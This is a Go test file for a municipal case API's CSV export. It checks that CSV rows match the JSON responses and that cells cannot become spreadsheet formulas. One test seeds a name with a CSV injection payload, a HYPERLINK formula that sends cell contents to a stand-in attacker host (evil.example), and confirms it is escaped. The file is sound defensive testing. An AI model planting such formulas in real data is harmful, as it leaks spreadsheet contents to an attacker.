package handlers_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/lhuta/lhuta/domain/calendar"
	"github.com/lhuta/lhuta/eventstore"
	"github.com/lhuta/lhuta/internal/testdb"
)

// get fetches a path with an Accept header.
func get(t *testing.T, s *stack, path, token, accept string) (string, http.Header) {
	t.Helper()
	req, _ := http.NewRequest("GET", s.url+path, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Accept", accept)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s (%s): %d %s", path, accept, resp.StatusCode, b)
	}
	return string(b), resp.Header
}

// Lists answer CSV with Accept: text/csv: the same items as the JSON, the
// JSON field names as the header row; stats as rows of figures.
func TestListsAndStatsAnswerCSV(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *eventstore.DB) {
		s := newStack(t, db, calendar.NewDate(2026, 6, 1))
		var last int64
		for range 3 {
			id, _ := s.openCase("id_card_incident", "1980-05-17")
			last = s.record(id, "IncidentReported", map[string]any{"kind": "lost", "reported_on": "2026-04-01", "reported_to": "police"})
		}
		for _, path := range []string{"/v1/obligations", "/v1/flags", "/v1/sla"} {
			q := fmt.Sprintf("%s?min_position=%d&limit=2", path, last)
			js, _ := get(t, s, q, "officer-token", "application/json")
			var page struct {
				Items      []map[string]any `json:"items"`
				NextCursor string           `json:"next_cursor"`
			}
			if err := json.Unmarshal([]byte(js), &page); err != nil {
				t.Fatal(err)
			}
			body, header := get(t, s, q, "officer-token", "text/csv")
			if !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || header.Get("Next-Cursor") != page.NextCursor {
				t.Errorf("%s as CSV: Content-Type %q, Next-Cursor %q (JSON's next_cursor %q)", path, header.Get("Content-Type"),
					header.Get("Next-Cursor"), page.NextCursor)
			}
			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			if len(rows) != len(page.Items)+1 {
				t.Fatalf("%s: %d CSV rows for %d items:\n%s", path, len(rows), len(page.Items), body)
			}
			for i, it := range page.Items {
				for col, name := range rows[0] {
					want := ""
					if v, ok := it[name]; ok && v != nil {
						want = fmt.Sprint(v)
					}
					if rows[i+1][col] != want {
						t.Errorf("%s item %d %s: CSV %q, JSON %q", path, i, name, rows[i+1][col], want)
					}
				}
			}
		}
		body, _ := get(t, s, "/v1/stats?from=2026-01-01", "dash-token", "text/csv")
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || !slices.Equal(rows[0], []string{"figure", "key", "status", "count"}) ||
			!slices.ContainsFunc(rows, func(r []string) bool {
				return slices.Equal(r, []string{"by_situation", "id_card_incident", "overdue", "3"})
			}) {
			t.Fatalf("stats as CSV: %v\n%s", err, body)
		}
	})
}

// A name typed as a formula stays text in a spreadsheet: the CSV cell gets
// a leading apostrophe (CSV injection), numbers stay numbers.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *eventstore.DB) {
		s := newStack(t, db, calendar.NewDate(2026, 3, 10))
		id := s.payer("p-1", "1980-05-17", `=HYPERLINK("http://evil.example/"&A1)`)
		pos := s.record(id, "LocalFeeLiabilityArose", map[string]any{"fee": "waste", "arose_on": "2026-01-15",
			"basis": "permanent_residence", "house_number": "154", "village_part": "Nová Ves"})
		req, _ := http.NewRequest("GET", fmt.Sprintf("%s/v1/payments?min_position=%d", s.url, pos), nil)
		req.Header.Set("Authorization", "Bearer clerk-token")
		req.Header.Set("Accept", "text/csv")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil || len(rows) != 2 {
			t.Fatalf("CSV: %v %v", rows, err)
		}
		header, row := rows[0], rows[1]
		for i, name := range header {
			switch name {
			case "message":
				if !strings.HasPrefix(row[i], `'=HYPERLINK(`) {
					t.Errorf("message cell %q: a formula", row[i])
				}
			case "amount_czk":
				if row[i] != "1200" {
					t.Errorf("amount cell %q", row[i])
				}
			}
			if c := row[i]; c != "" && strings.ContainsRune("=+@", rune(c[0])) {
				t.Errorf("cell %s = %q begins a formula", name, c)
			}
		}
	})
}
